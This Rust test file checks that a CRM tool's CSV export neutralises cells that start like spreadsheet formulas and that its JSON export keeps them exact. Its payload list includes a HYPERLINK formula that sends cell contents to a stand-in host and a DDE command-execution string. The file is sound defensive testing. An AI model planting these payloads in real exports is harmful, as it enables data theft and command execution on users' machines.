//! CSV exports are opened in spreadsheets: CRM text that starts like a
//! formula must reach the sheet as text.

use crate::support::{Install, deal_line, owner_line};

use serde_json::Value;

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
];

fn exported(install: &Install, format: &str) -> Vec<u8> {
    let path = install.path(&format!("violations.{format}"));
    install.run(&[
        "violations",
        "export",
        "--format",
        format,
        "-o",
        path.to_str().unwrap(),
    ]);
    std::fs::read(&path).unwrap()
}

fn installed_with_formulas() -> Install {
    let install = Install::new();
    let mut lines = vec![owner_line("=1+2", "=owner")];
    for (i, name) in FORMULAS.iter().enumerate() {
        // No owner: each deal has a `missing_owner` violation.
        lines.push(deal_line(&format!("=9{i}"), name, None));
    }
    install.import_lines("formulas.jsonl", &lines);
    install.run(&["audit"]);
    install
}

#[test]
fn a_csv_cell_that_starts_like_a_formula_is_exported_as_text() {
    let install = installed_with_formulas();
    let csv = exported(&install, "csv");
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(!rows.is_empty());
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        assert!(row[column("record_id")].starts_with("'=9"), "{row:?}");
    }
    let names: std::collections::BTreeSet<String> = rows
        .iter()
        .map(|row| row[column("record_name")].to_owned())
        .collect();
    let expected: std::collections::BTreeSet<String> =
        FORMULAS.iter().map(|f| format!("'{f}")).collect();
    assert_eq!(names, expected);
    // Every cell is quoted, so a spreadsheet never splits or re-reads one.
    let text = String::from_utf8(csv).unwrap();
    assert!(text.starts_with("\"id\",\"fingerprint\","), "{text}");
}

#[test]
fn json_exports_keep_formula_text_exact() {
    let install = installed_with_formulas();
    let json: Vec<Value> = serde_json::from_slice(&exported(&install, "json")).unwrap();
    let names: std::collections::BTreeSet<&str> = json
        .iter()
        .map(|v| v["record_name"].as_str().unwrap())
        .collect();
    let expected: std::collections::BTreeSet<&str> = FORMULAS.into_iter().collect();
    assert_eq!(names, expected);
}
